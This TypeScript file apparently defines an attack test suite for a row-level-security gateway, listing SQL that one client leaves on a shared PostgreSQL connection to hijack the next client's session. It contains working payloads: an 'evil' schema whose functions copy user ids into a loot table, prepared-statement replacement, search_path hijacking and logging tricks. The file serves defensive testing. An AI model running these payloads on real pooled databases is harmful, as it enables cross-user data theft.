/** SQL of one client that is meant to turn the next one's batch. Tables and functions: see {@link LAIR}. */
export interface Attack {
  name: string;
  /** What the attacker runs, in turn, each in a request of its own; what fails, fails. */
  sql: string[];
  /** As whom the next one comes; left out: with an access token. */
  victim?: 'token';
  /** What it does to the former batch, by route; a route left out: nothing, or not each time. */
  control?: Partial<Record<RouteKind, Harm>>;
}

/** How the database is reached: directly, prepared statements hidden by a superuser or public; through a pooler that renames them; PgBouncer 1.18. */
export type RouteKind = 'hidden' | 'public' | 'renaming' | 'bouncer';

/** What can befall the next one. `told by a lock`: a parameter of theirs. */
export type Harm = 'stolen' | 'wrong answer' | 'refused' | 'logged' | 'told by a lock';

const ON_ALL = <H extends Harm>(harm: H) => ({ hidden: harm, public: harm, renaming: harm, bouncer: harm });
const WHERE_LISTED = <H extends Harm>(harm: H) => ({ public: harm, renaming: harm, bouncer: harm });

/** A statement of everybody's, whose answer shows whether anything has changed it. */
export const PROBE = `select rowseal.user_id()::text as user_id, $1::text as said, octet_length($1::text) as bytes, length('a\\b') as letters, (date '2026-02-01')::text as day,
  lower('X') as lowered, current_setting('transaction_isolation') as isolation, current_setting('transaction_read_only') as read_only,
  coalesce(current_setting('app.flag', true), '') as flag, (select count(*)::int from app.notes where pg_sleep(0.02) is not null) as notes`;

/** What the attacker has made before: a schema where anybody may create (as a careless DBA leaves one), and a table that collects. */
export const LAIR = `
  create schema evil;
  grant usage, create on schema evil to rowseal_user;
  create table evil.loot (what text);
  grant select, insert on evil.loot to rowseal_user;
  create function evil.take(what text) returns text language plpgsql as $$
    begin insert into evil.loot values (what); return what; end $$;
  create function evil.lower(value text) returns text language plpgsql as $$
    begin insert into evil.loot values (rowseal.user_id()::text); return 'stolen'; end $$;
  create function evil.folded(value text) returns text language plpgsql immutable as $$
    begin perform pg_advisory_lock(4242, hashtext(value)); perform evil.take(value); return value; end $$;
  grant execute on all functions in schema evil to public`;

const ANSWER = `evil.take($1 || coalesce(rowseal.user_id()::text, '')) as user_id, $1::text as said, 0 as bytes, 3 as letters, ''::text as day, ''::text as lowered,
  ''::text as isolation, ''::text as read_only, ''::text as flag, 0 as notes`;

/** Puts something else under each name that a query finds; of guesses, where a statement takes one text, so that entering goes on. */
const replaceEach = (
  names: string,
  type: string,
  body: string,
  isOfOneText = false,
) => `do $attack$ declare name text; begin
  for name in ${names} loop
    begin
      ${isOfOneText ? `execute format('explain execute %I(%L)', name, 'x');` : ''}
      execute format('deallocate %I', name);
    exception when others then continue;
    end;
    begin
      execute format('prepare %I${type} as ${body.replaceAll("'", "''").replaceAll('%', '%%')}', name);
    exception when others then null;
    end;
  end loop;
end $attack$`;

const ENTRANCES = `select p.name from pg_prepared_statements as p where p.statement ~ 'rowseal.enter\\('`;
const PROBES = `select p.name from pg_prepared_statements as p where p.statement ~ '\\$1::text as said'`;
const GUESSES = `select 'PGBOUNCER_' || n from generate_series(1, 300) as n`;
const OCCUPY = `do $$ begin for n in 1..300 loop begin execute format('prepare "PGBOUNCER_%s" as select 1', n); exception when others then null; end; end loop; end $$`;
const ENTERS = '(uuid, uuid, uuid, text, bigint, text, bytea, text)';
const STOLEN = `with entered as materialized (select rowseal.enter($1, $2, $3, $4, $5, $6, $7, $8))
  select evil.take(rowseal.user_id()::text) from entered`;

/** The kinds of attack of the entrance's design. */
export const ATTACKS: Attack[] = [
  {
    name: 'K1 replaces the statement that enters',
    control: WHERE_LISTED('stolen'),
    sql: [replaceEach(ENTRANCES, ENTERS, STOLEN)],
  },
  {
    name: 'K2 replaces the next statement',
    control: WHERE_LISTED('stolen'),
    sql: [replaceEach(PROBES, '(text)', `select ${ANSWER}`)],
  },
  {
    name: 'K3 replaces what has a guessable name',
    control: { renaming: 'stolen' },
    sql: [replaceEach(GUESSES, '(text)', `select ${ANSWER}`, true)],
  },
  {
    name: 'K4 occupies guessable names',
    control: { renaming: 'refused' },
    sql: [OCCUPY],
  },
  {
    // No control: the former batch is refused behind a renaming pooler in some runs, and served in others.
    name: 'K5 deallocates whatever is there',
    sql: ['deallocate all', `do $$ begin deallocate all; end $$`],
  },
  {
    name: 'K6 plants a statement that fails while it is planned',
    control: WHERE_LISTED('logged'),
    sql: [
      replaceEach(PROBES, '(text)', `select ($1::text)::integer`),
      replaceEach(GUESSES, '(text)', `select ($1::text)::integer`, true),
    ],
  },
  {
    name: 'K7 and K8 plant a statement that calls a function while it is planned',
    control: WHERE_LISTED('stolen'),
    sql: [
      replaceEach(PROBES, '(text)', `select 1 where evil.folded($1) is not null`),
      replaceEach(GUESSES, '(text)', `select 1 where evil.folded($1) is not null`, true),
    ],
  },
  {
    name: 'L1 has parameters of what fails logged, and plants a context so that entering fails',
    control: ON_ALL('logged'),
    sql: [`set log_parameter_max_length_on_error = -1`, `select set_config('rowseal.context', 'planted', false)`],
    victim: 'token',
  },
  {
    name: 'L2 has plans logged',
    control: ON_ALL('logged'),
    sql: ['set debug_print_plan = on', 'set plan_cache_mode = force_custom_plan'],
    victim: 'token',
  },
  {
    name: 'G1 plants a context',
    control: { renaming: 'refused' },
    sql: [`select set_config('rowseal.context', 'planted', false)`],
  },
  {
    name: 'G2 changes what a backslash means',
    control: ON_ALL('wrong answer'),
    sql: ['set standard_conforming_strings = off'],
  },
  { name: 'G3 changes the encoding', control: ON_ALL('wrong answer'), sql: [`set client_encoding = 'LATIN1'`] },
  {
    name: 'G4 puts a schema of its own before pg_catalog',
    control: ON_ALL('stolen'),
    sql: ['set search_path = evil, pg_catalog'],
  },
  {
    name: 'G5 changes the isolation',
    control: { renaming: 'refused' },
    sql: ['set default_transaction_isolation = serializable'],
  },
  {
    name: 'G6 makes sessions read only',
    control: ON_ALL('wrong answer'),
    sql: ['set default_transaction_read_only = on'],
  },
  {
    // No control: where entering takes longer than that, the former batch tries elsewhere, and is served.
    name: 'G7 lets statements time out',
    sql: ['set statement_timeout = 1'],
  },
  { name: 'G8 changes how dates are written', control: ON_ALL('wrong answer'), sql: [`set DateStyle = 'German'`] },
  {
    name: 'G9 plants a setting of the application',
    control: ON_ALL('wrong answer'),
    sql: [`select set_config('app.flag', 'planted', false)`],
  },
  { name: 'G10 turns row security off', control: { renaming: 'refused' }, sql: ['set row_security = off'] },
  { name: 'P1 leaves a cursor open', sql: ['declare loot cursor with hold for select rowseal.user_id()'] },
  { name: 'P2 asks for data', control: ON_ALL('refused'), sql: ['copy evil.loot from stdin'] },
  { name: 'P3 makes a temporary table', sql: ['create temporary table notes (a int)'] },
  { name: 'P4 takes another role', sql: ['set role rowseal_gateway', 'set role rowseal_user'] },
  { name: 'P5 listens', sql: ['listen loot'] },
  { name: 'P6 keeps a lock for the session', sql: ['select pg_advisory_lock(7)'] },
  { name: 'P7 commits within a block', sql: ['do $$ begin commit; end $$'] },
  { name: 'P8 sets the seed of random()', sql: ['select setseed(0)'] },
  { name: 'P9 ends its own transaction', sql: ['commit', 'rollback', 'abort'] },
  { name: 'P10 leaves a transaction open', sql: ['begin'] },
  { name: 'P11 leaves a serializable transaction open', sql: ['begin isolation level serializable read only'] },
];
